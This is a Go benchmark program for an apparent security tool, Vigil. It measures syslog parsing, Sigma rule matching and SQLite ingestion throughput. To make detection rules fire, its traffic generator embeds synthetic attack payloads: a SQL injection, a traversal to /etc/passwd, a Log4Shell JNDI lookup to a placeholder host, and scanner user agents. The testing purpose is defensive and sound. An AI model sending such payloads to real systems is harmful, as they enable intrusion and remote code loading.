// Command ingest-bench measures Vigil's ingest path on generated syslog
// traffic with the SigmaHQ rule set of the corpus: parser-only,
// detection-only and end-to-end (parse → store events in SQLite → Sigma
// match → alerts) throughput in events per second, each on one goroutine.
// Detection is also measured on the corpus's Windows regression events,
// replicated, which meet far more rules than Linux syslog does. It prints
// figures; it asserts nothing. The TCP phase measures sustained syslog
// over TCP end to end (see tcpPhase). With -profile DIR it writes one CPU
// profile per phase (parse.pprof, detect.pprof, detect-windows.pprof,
// e2e.pprof, tcp.pprof) for `go tool pprof -top`.
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"runtime/pprof"
	"strings"
	"time"

	"github.com/vigil-sec/vigil/internal/detect"
	"github.com/vigil-sec/vigil/internal/logs"
	"github.com/vigil-sec/vigil/internal/pipeline"
	"github.com/vigil-sec/vigil/internal/store"
	"github.com/vigil-sec/vigil/internal/store/sqlite"
)

type config struct {
	sigma      string
	events     int
	e2eEvents  int
	batch      int
	noPipeline bool
	profile    string
	tcpEvents  int
	tcpConns   int
	tcpRuns    int
	detect     bool
	only       string
	send       string
}

func main() {
	var c config
	flag.StringVar(&c.sigma, "sigma", "../../../shared/corpus/sigma", "SigmaHQ corpus (rules/, rules-emerging-threats/, rules-threat-hunting/, regression_data/)")
	flag.IntVar(&c.events, "events", 200_000, "generated syslog lines for the parser and detection phases")
	flag.IntVar(&c.e2eEvents, "e2e-events", 100_000, "generated syslog lines for the end-to-end phase")
	flag.IntVar(&c.batch, "batch", 500, "events per pipeline.Write batch")
	flag.BoolVar(&c.noPipeline, "no-pipeline", false, "compile the rules without the default processing pipeline")
	flag.StringVar(&c.profile, "profile", "", "directory to write one CPU profile per phase to")
	flag.IntVar(&c.tcpEvents, "tcp-events", 500_000, "syslog lines sent over loopback TCP per run")
	flag.IntVar(&c.tcpConns, "tcp-conns", 4, "sending connections in the TCP phase")
	flag.IntVar(&c.tcpRuns, "tcp-runs", 3, "runs of the TCP phase")
	flag.BoolVar(&c.detect, "detect", true, "match the Sigma rules in the TCP phase (false: store only)")
	flag.StringVar(&c.only, "only", "", `run one phase only: "tcp" (sustained syslog TCP into SQLite)`)
	flag.StringVar(&c.send, "send", "", "internal: be the TCP phase's sender child, sending to this address")
	flag.Parse()
	if c.send != "" {
		if err := sendMain(c.send, c.tcpEvents, c.tcpConns); err != nil {
			fmt.Fprintln(os.Stderr, "ingest-bench sender:", err)
			os.Exit(1)
		}
		return
	}
	if err := run(context.Background(), c); err != nil {
		fmt.Fprintln(os.Stderr, "ingest-bench:", err)
		os.Exit(1)
	}
}

func run(ctx context.Context, c config) error {
	if c.events <= 0 || c.e2eEvents <= 0 || c.batch <= 0 || c.tcpEvents <= 0 || c.tcpConns <= 0 || c.tcpRuns <= 0 {
		return errors.New("-events, -e2e-events, -batch and the -tcp counts must be positive")
	}
	fmt.Printf("ingest-bench: GOMAXPROCS=%d, %s/%s, %s\n", runtime.GOMAXPROCS(0), runtime.GOOS, runtime.GOARCH, runtime.Version())

	start := time.Now()
	eng, nRules, err := loadRules(c)
	if err != nil {
		return err
	}
	fmt.Printf("rules: %d detection rules loaded in %.1fs (default pipeline: %v)\n", nRules, time.Since(start).Seconds(), !c.noPipeline)
	if c.only == "tcp" {
		return tcpPhase(ctx, c, eng)
	}

	lines := generate(c.events, 1)
	parser, err := logs.NewRegistry().Lookup("auto")
	if err != nil {
		return err
	}
	meta := logs.Meta{Source: "127.0.0.1:514", Tenant: "bench", Received: time.Date(2026, 11, 29, 8, 0, 0, 0, time.UTC)}

	// Parser only.
	events := make([]logs.Event, 0, len(lines))
	bad := 0
	r := measure(c.profile, "parse", func() {
		for _, l := range lines {
			ev, err := parser.Parse(l, meta)
			if err != nil {
				bad++
				continue
			}
			events = append(events, ev)
		}
	})
	r.print("parser only (auto parser)", len(lines))
	if bad > 0 {
		fmt.Printf("  %d lines did not parse\n", bad)
	}

	// Detection only, on the parsed syslog events: the work Write does
	// per event besides storing (DetectFields, NewEvent, Match).
	var matched []*detect.Rule
	hits := 0
	r = measure(c.profile, "detect", func() {
		for i := range events {
			matched = eng.Match(detect.NewEvent(events[i].DetectFields()), matched[:0])
			hits += len(matched)
		}
	})
	r.print("detection only, syslog events (DetectFields+NewEvent+Match)", len(events))
	fmt.Printf("  %d rule matches\n", hits)
	prepared := make([]*detect.Event, len(events))
	for i := range events {
		prepared[i] = detect.NewEvent(events[i].DetectFields())
	}
	r = measure("", "", func() {
		for _, ev := range prepared {
			matched = eng.Match(ev, matched[:0])
		}
	})
	r.print("detection only, syslog events (Match on prepared events)", len(prepared))

	// Detection on the Windows regression events, replicated.
	win, err := regressionEvents(filepath.Join(c.sigma, "regression_data"))
	if err != nil {
		return err
	}
	if len(win) > 0 {
		n := c.events
		hits = 0
		r = measure(c.profile, "detect-windows", func() {
			for i := range n {
				matched = eng.Match(detect.NewEvent(win[i%len(win)]), matched[:0])
				hits += len(matched)
			}
		})
		r.print(fmt.Sprintf("detection only, %d Windows regression events replicated (NewEvent+Match)", len(win)), n)
		fmt.Printf("  %d rule matches\n", hits)
		pw := make([]*detect.Event, len(win))
		for i, m := range win {
			pw[i] = detect.NewEvent(m)
		}
		r = measure("", "", func() {
			for i := range n {
				matched = eng.Match(pw[i%len(pw)], matched[:0])
			}
		})
		r.print("detection only, Windows regression events (Match on prepared events)", n)
		nn := min(n, 2000)
		r = measure("", "", func() {
			for i := range nn {
				matched = eng.MatchNaive(pw[i%len(pw)], matched[:0])
			}
		})
		r.print("  naive reference: every rule on every event, no index", nn)
	}

	if err := endToEnd(ctx, c, eng, parser); err != nil {
		return err
	}
	return tcpPhase(ctx, c, eng)
}

func loadRules(c config) (*detect.Engine, int, error) {
	set := detect.NewPipelineSet()
	if !c.noPipeline {
		def, err := detect.DefaultPipeline()
		if err != nil {
			return nil, 0, err
		}
		set = detect.NewPipelineSet(def)
	}
	var rules []*detect.Rule
	for _, tree := range []string{"rules", "rules-emerging-threats", "rules-threat-hunting"} {
		res, err := set.LoadFS(os.DirFS(filepath.Join(c.sigma, tree)), ".")
		if err != nil {
			return nil, 0, err
		}
		rules = append(rules, res.Rules...)
	}
	if len(rules) == 0 {
		return nil, 0, fmt.Errorf("no rules under %s", c.sigma)
	}
	return detect.NewEngine(rules), len(rules), nil
}

// endToEnd writes the generated lines through pipeline.Write into a fresh
// SQLite store: parse, store, match, raise alerts.
func endToEnd(ctx context.Context, c config, eng *detect.Engine, parser logs.Parser) error {
	dir, err := os.MkdirTemp("", "vigil-ingest-bench-")
	if err != nil {
		return err
	}
	defer func() { _ = os.RemoveAll(dir) }()
	st, err := sqlite.Open(ctx, filepath.Join(dir, "vigil.db"), sqlite.Options{})
	if err != nil {
		return err
	}
	defer func() { _ = st.Close() }()
	ten := store.Tenant{Slug: "bench", Name: "Bench"}
	if err := st.Tenants().Create(ctx, &ten); err != nil {
		return fmt.Errorf("create tenant: %w", err)
	}
	p := pipeline.New(st, pipeline.Options{Rules: eng})
	lines := generate(c.e2eEvents, 2)
	base := time.Date(2026, 11, 29, 9, 0, 0, 0, time.UTC)
	var werr error
	batch := make([]logs.Event, 0, c.batch)
	r := measure(c.profile, "e2e", func() {
		for i := 0; i < len(lines) && werr == nil; i += c.batch {
			batch = batch[:0]
			for j, l := range lines[i:min(i+c.batch, len(lines))] {
				ev, err := parser.Parse(l, logs.Meta{Source: "127.0.0.1:514", Tenant: ten.ID, Received: base.Add(time.Duration(i+j) * time.Millisecond)})
				if err != nil {
					continue
				}
				batch = append(batch, ev)
			}
			werr = p.Write(ctx, batch)
		}
	})
	if werr != nil {
		return fmt.Errorf("pipeline write: %w", werr)
	}
	s := p.Stats()
	r.print(fmt.Sprintf("end to end: parse → SQLite → Sigma → alerts (batches of %d)", c.batch), len(lines))
	fmt.Printf("  stored %d events, %d rule/intel matches, %d alerts raised\n", s.Stored, s.Matched, s.Alerts)
	return nil
}

type result struct{ wall, cpu time.Duration }

func (r result) print(what string, n int) {
	eps := float64(n) / r.wall.Seconds()
	line := fmt.Sprintf("%-75s %9d events  %7.2fs  %10.0f events/s", what, n, r.wall.Seconds(), eps)
	if r.cpu > 0 {
		line += fmt.Sprintf("  (%.0f events per CPU-second)", float64(n)/r.cpu.Seconds())
	}
	fmt.Println(line)
}

// measure times f, profiling it into dir/name.pprof when dir and name
// are set.
func measure(dir, name string, f func()) result {
	var stop func()
	if dir != "" && name != "" {
		if pf, err := os.Create(filepath.Join(dir, name+".pprof")); err == nil { // #nosec G304 -- operator-chosen directory
			if err := pprof.StartCPUProfile(pf); err == nil {
				stop = func() { pprof.StopCPUProfile(); _ = pf.Close() }
			} else {
				_ = pf.Close()
			}
		}
	}
	runtime.GC()
	c0, t0 := cpuTime(), time.Now()
	f()
	r := result{wall: time.Since(t0), cpu: cpuTime() - c0}
	if stop != nil {
		stop()
	}
	return r
}

// generate returns n syslog-shaped lines of the kinds Vigil's parsers
// know: sshd and sudo (RFC 3164), iptables (kernel), RFC 5424 application
// messages and web server access lines, with a few attack lines among
// them so that rules fire. The mix is deterministic for a seed.
func generate(n int, seed uint64) [][]byte {
	rng := rand.New(rand.NewPCG(seed, 0x1dea)) // #nosec G404 -- reproducible synthetic traffic, not secrets
	hosts := []string{"web-01", "web-02", "db-01", "bastion", "mail-01"}
	users := []string{"root", "deploy", "alice", "bob", "oracle", "admin"}
	agents := []string{"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0", "curl/8.5.0",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36"}
	attackAgents := []string{"sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "gobuster/3.6"}
	paths := []string{"/", "/index.html", "/login", "/api/v1/items?id=42", "/static/app.js", "/search?q=shoes"}
	attackPaths := []string{"/index.php?id=1%27%20UNION%20SELECT%20NULL--", "/cgi-bin/../../../../etc/passwd", "/?x=${jndi:ldap://192.0.2.5/a}"}
	out := make([][]byte, n)
	var b bytes.Buffer
	for i := range n {
		b.Reset()
		ts := time.Date(2026, 11, 29, 8, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Millisecond)
		stamp := ts.Format(time.Stamp)
		host := hosts[rng.IntN(len(hosts))]
		ip := fmt.Sprintf("203.0.113.%d", rng.IntN(254)+1)
		attack := rng.IntN(100) == 0
		switch k := rng.IntN(10); {
		case k < 3:
			verb := "Accepted publickey"
			if attack || rng.IntN(3) == 0 {
				verb = "Failed password"
			}
			fmt.Fprintf(&b, "<38>%s %s sshd[%d]: %s for %s from %s port %d ssh2", stamp, host, 1000+rng.IntN(30000), verb, users[rng.IntN(len(users))], ip, 30000+rng.IntN(30000))
		case k < 4:
			fmt.Fprintf(&b, "<85>%s %s sudo: %s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx", stamp, host, users[rng.IntN(len(users))], users[rng.IntN(len(users))])
		case k < 6:
			fmt.Fprintf(&b, "<4>%s %s kernel: [%d.%06d] IPTABLES-DROP: IN=eth0 OUT= MAC=00:16:3e:00:00:01:00:16:3e:00:00:02:08:00 SRC=%s DST=198.51.100.10 LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=%d DF PROTO=TCP SPT=%d DPT=%d WINDOW=64240 RES=0x00 SYN URGP=0",
				stamp, host, 1000+i/1000, i%1000000, ip, rng.IntN(65535), 30000+rng.IntN(30000), []int{22, 23, 80, 443, 445, 3389}[rng.IntN(6)])
		case k < 7:
			fmt.Fprintf(&b, "<165>1 %s %s app %d ID47 [meta user=\"%s\" action=\"login\"] user session opened", ts.Format(time.RFC3339Nano), host, 100+rng.IntN(900), users[rng.IntN(len(users))])
		default:
			ua, path := agents[rng.IntN(len(agents))], paths[rng.IntN(len(paths))]
			if attack {
				ua, path = attackAgents[rng.IntN(len(attackAgents))], attackPaths[rng.IntN(len(attackPaths))]
			}
			fmt.Fprintf(&b, `%s - - [%s] "GET %s HTTP/1.1" %d %d "-" "%s"`, ip, ts.Format("02/Jan/2006:15:04:05 -0700"), path, []int{200, 200, 200, 304, 404}[rng.IntN(5)], rng.IntN(50000), ua)
		}
		out[i] = bytes.Clone(b.Bytes())
	}
	return out
}

// regressionEvents reads every JSON event of the corpus regression cases.
func regressionEvents(root string) ([]map[string]any, error) {
	var out []map[string]any
	fsys := os.DirFS(root)
	err := fs.WalkDir(fsys, ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() || !strings.HasSuffix(p, ".json") {
			return nil
		}
		data, err := fs.ReadFile(fsys, p)
		if err != nil {
			return err
		}
		dec := json.NewDecoder(bytes.NewReader(data))
		dec.UseNumber()
		for dec.More() {
			var m map[string]any
			if err := dec.Decode(&m); err != nil {
				return fmt.Errorf("%s: %w", p, err)
			}
			out = append(out, m)
		}
		return nil
	})
	if errors.Is(err, fs.ErrNotExist) {
		return nil, nil
	}
	return out, err
}
